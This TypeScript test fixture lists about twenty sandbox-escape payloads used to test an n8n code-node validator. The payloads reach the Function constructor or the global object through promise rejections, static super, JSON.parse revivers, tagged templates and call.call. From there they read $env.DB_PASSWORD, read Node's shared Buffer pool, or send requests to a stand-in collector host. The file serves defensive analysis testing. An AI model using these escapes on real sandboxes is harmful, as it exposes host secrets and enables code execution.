// Issue #32's new round: 12 bypasses of the value-flow rule in 4 classes, and the Buffer pool. Each
// obtains a capability in the oracle (./n8n-sandbox.ts, n8n's runner flags and hardened host) while the
// value-flow analysis (js-value-flow.ts) reports nothing; the points-to analysis (src/validate/purity)
// reports each (test/validate/purity-points-to.test.ts).
import type { RedTeamBypass } from './bypasses.js';

/** Row 0's `key` is 'constructor' (n8n-sandbox.ts DEFAULT_ITEMS): F is the sandbox's Function. */
const F = 'const F = (() => 0)[items[0].json.key];\n';
/** Writes a valueOf onto a prototype the code holds, then calls it with the global object as receiver. */
const launder = (proto: string) => `${proto}.zz = ${proto}.valueOf;\nconst G = this.zz();\n`;

export const ISSUE32: RedTeamBypass[] = [
  // 1. A thrown value comes back through a rejection handler.
  { id: 'reject/async-throw-catch', cls: 'rejection-handler', code: `${F}const G = await (async () => { throw F; })().catch((e) => e);\nreturn [{ json: { g: G('return globalThis')() } }];`, why: 'a value thrown in an async function reaches .catch(e => e)' },
  { id: 'reject/executor-then-null', cls: 'rejection-handler', code: `${F}const G = await new Promise(() => { throw F; }).then(null, (e) => e);\nreturn [{ json: { g: G('return globalThis')() } }];`, why: 'a value thrown in a Promise executor reaches .then(null, f)' },
  { id: 'reject/allSettled-reason', cls: 'rejection-handler', code: `${F}const [r] = await Promise.allSettled([new Promise(() => { throw F; })]);\nreturn [{ json: { g: r.reason('return globalThis')() } }];`, why: 'Promise.allSettled(...)[i].reason is the thrown value' },
  // 2. super in a class's static members.
  { id: 'super/static-prototype-object', cls: 'static-super', code: `class A extends Object { static p() { return super.prototype; } }\nconst OP = A.p();\n${launder('OP')}return [{ json: { e: G.$env.DB_PASSWORD } }];`, why: 'super.prototype in a static method of a class extending Object is Object.prototype' },
  { id: 'super/static-valueOf-call', cls: 'static-super', code: `class A extends Object { static v() { return super.valueOf; } }\nconst G = A.v().call(this);\nawait G.helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn [{ json: { ok: 1 } }];`, why: 'super.valueOf in a static method is Object.prototype.valueOf; called on the global object it gives the global object' },
  { id: 'super/static-constructor', cls: 'static-super', code: `class A extends Object { static f() { return super.constructor; } }\nreturn [{ json: { g: A.f()('return globalThis')() } }];`, why: 'super.constructor in a static method of a class extending Object is Function' },
  // 3. A method name trusted to return a primitive, stored by a JSON.parse reviver.
  { id: 'reviver/join-returns-prototype', cls: 'reviver-method', code: `const o = JSON.parse('{"a":{}}', function (k, v) { if (k === 'a') v.join = () => Object.prototype; return v; });\nconst OP = o.a.join();\n${launder('OP')}return [{ json: { e: G.$env.DB_PASSWORD } }];`, why: 'the reviver puts a function of the code under join; join() gives Object.prototype' },
  { id: 'reviver/holder-join', cls: 'reviver-method', code: `const o = JSON.parse('[1]', function (k, v) { if (k === '0') this.join = () => Object.prototype; return v; });\nconst OP = o.join();\n${launder('OP')}return [{ json: { e: G.$env.DB_PASSWORD } }];`, why: 'the reviver writes join on its holder (this), the parsed array; join() gives Object.prototype' },
  { id: 'reviver/toString-returns-function', cls: 'reviver-method', code: `${F}const o = JSON.parse('{"a":{}}', function (k, v) { if (k === 'a') v.toString = () => F; return v; });\nreturn [{ json: { g: o.a.toString()('return globalThis')() } }];`, why: 'toString() trusted to give a string gives the Function constructor the reviver stored' },
  // 4. A built-in substituted into a tagged template whose tag is a method or a let binding.
  { id: 'tag/method-object-prototype', cls: 'tagged-template', code: `const o = { t(s, x) { return x; } };\nconst OP = o.t\`\${Object.prototype}\`;\n${launder('OP')}return [{ json: { e: G.$env.DB_PASSWORD } }];`, why: 'a method tag (o.t) returns its substitution, Object.prototype' },
  { id: 'tag/let-binding-object-prototype', cls: 'tagged-template', code: `let t = (s, x) => x;\nconst OP = t\`\${Object.prototype}\`;\n${launder('OP')}await G.helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn [{ json: { ok: 1 } }];`, why: 'a let-bound tag returns its substitution, Object.prototype' },
  { id: 'tag/method-function', cls: 'tagged-template', code: `${F}const o = { t(s, x) { return x; } };\nconst G = o.t\`\${F}\`;\nreturn [{ json: { g: G('return globalThis')() } }];`, why: 'a method tag returns the Function constructor substituted into it' },
];

/** Buffer.from('a').buffer is Node's shared allocation pool (8 KiB of host memory other tasks' Buffers live in). */
export const BUFFER_POOL = "const pool = Buffer.from('a').buffer;\nreturn [{ json: { bytes: Array.from(new Uint8Array(pool, 0, 64)) } }];";

/**
 * Found by the author of the points-to analysis reviewing it (not an independent round): a built-in
 * that calls itself with other inputs (Function.prototype.call.call(F, ...)) was taken for recursion
 * and skipped. Each obtains in the oracle.
 */
export const SELF_REVIEW: RedTeamBypass[] = [
  { id: 'recursion/call-call', cls: 'builtin-self-call', code: "const G = Function.prototype.call.call((() => 0).constructor, null, 'return this')();\nreturn [{ json: { g: G } }];", why: 'call applied to call calls the Function constructor' },
  { id: 'recursion/call-of-call', cls: 'builtin-self-call', code: "const f = Function.prototype.call;\nconst G = f.call(f, (() => 0).constructor, null, 'return this')();\nreturn [{ json: { g: G } }];", why: 'the same through a variable' },
  { id: 'rest-parameter/first-argument', cls: 'rest-parameter', code: "function pick(...xs) { return xs[0]; }\nconst G = pick((() => 0).constructor)('return this')();\nreturn [{ json: { g: G } }];", why: 'a rest parameter holds the arguments from its own index on (the analysis once gave it only those after it)' },
  // Found while switching the rule (2026-12-02), in the rule's own table: Object.assign copied a built-in's own enumerable keys but not what n8n adds to the global object.
  { id: 'assign/global-object', cls: 'own-keys-copy', code: 'const copy = Object.assign({}, this);\nreturn copy.helpers.request({});', why: "Object.assign's summary walked the global object's snapshot keys and not its overlay, where n8n's helpers, $env and require are" },
  { id: 'entries/global-object', cls: 'own-keys-copy', code: 'const found = Object.entries(this).find(([k]) => k === \'helpers\');\nreturn found[1].request({});', why: 'the same copy of own keys, through Object.entries' },
  { id: 'from-entries/global-object', cls: 'own-keys-copy', code: "return Object.fromEntries(Object.entries(this)).helpers.request({});", why: 'an own-keys copy rebuilt by Object.fromEntries' },
  { id: 'map-of-entries/global-object', cls: 'own-keys-copy', code: "return new Map(Object.entries(this)).get('helpers').request({});", why: 'the entries kept in a Map' },
];
